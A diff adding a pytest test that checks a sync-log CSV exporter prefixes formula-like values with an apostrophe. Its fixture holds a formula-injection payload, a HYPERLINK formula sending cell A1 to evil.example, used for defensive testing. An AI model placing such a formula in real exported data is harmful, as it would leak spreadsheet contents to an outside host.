@@ -232,3 +232,27 @@ def test_public_names_are_exported():
 
     assert all(hasattr(module, name) for name in module.__all__)
     assert {"export_sync_logs", "iter_sync_log_rows", "parse_since", "EXPORT_COLUMNS"} <= set(module.__all__)
+
+
+def test_formula_like_text_is_exported_as_text(engine, sessions, world, tmp_path):
+    """An error message or id from outside that a spreadsheet would run as a formula gets a leading
+    apostrophe; numbers, negative ones included, are left as they are."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with sessions.begin() as s:
+        s.add(
+            _log(
+                world["integration"],
+                world["a"],
+                T0 + timedelta(days=5),
+                status="failed",
+                external_entity_id="-42",
+                error_code="@SUM(1+1)",
+                error_message=hostile,
+            )
+        )
+    out = tmp_path / "logs.csv"
+    export_sync_logs(engine, world["a"], out)
+    row = _read(out)[1][-1]
+    assert row["error_message"] == "'" + hostile
+    assert row["error_code"] == "'@SUM(1+1)"
+    assert row["external_entity_id"] == "-42"
